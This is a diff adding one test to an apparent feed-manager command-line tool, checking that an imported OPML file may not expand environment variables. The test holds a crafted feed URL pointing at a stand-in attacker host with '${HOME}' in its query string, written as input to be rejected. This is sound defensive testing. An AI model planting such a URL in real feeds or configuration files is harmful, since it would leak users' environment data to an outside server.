@@ -120,6 +120,21 @@ def test_an_import_leaves_out_passwords_and_warns_of_tokens(home: Path) -> None:
     assert "c.example" not in error
 
 
+def test_a_file_of_others_gets_at_no_variable_of_the_environment(home: Path) -> None:
+    """It would be sent to whatever server the same line names."""
+    line = '<outline type="rss" xmlUrl="https://evil.example/f?k=${HOME}"/>'
+    (home / "mine.opml").write_text(f'<opml version="2.0"><body>{line}<outline xmlUrl="https://a.example/1"/></body></opml>')
+    code, printed, error = run(home, "feeds", "import", str(home / "mine.opml"))
+    assert code == 0
+    assert printed.startswith("1 added")
+    assert "left out, it names a variable of your environment: https://evil.example/f?k=${HOME}" in error
+    assert run(home, "feeds", "list")[1].split() == ["https://a.example/1"]
+    (home / "podcasts.toml").write_text('[feeds]\nopml = ["mine.opml"]\n')
+    code, _, error = run(home, "feeds", "list")
+    assert code == 1
+    assert "evil.example names a variable of the environment" in error
+
+
 def test_replay_rebuilds_a_lost_log_from_the_archive_and_says_where_both_differ(home: Path, web: Web) -> None:
     now = dt.datetime.now(tz=dt.UTC)
     dated = f"<pubDate>{now - dt.timedelta(days=1):%a, %d %b %Y %H:%M:%S} +0000</pubDate>"
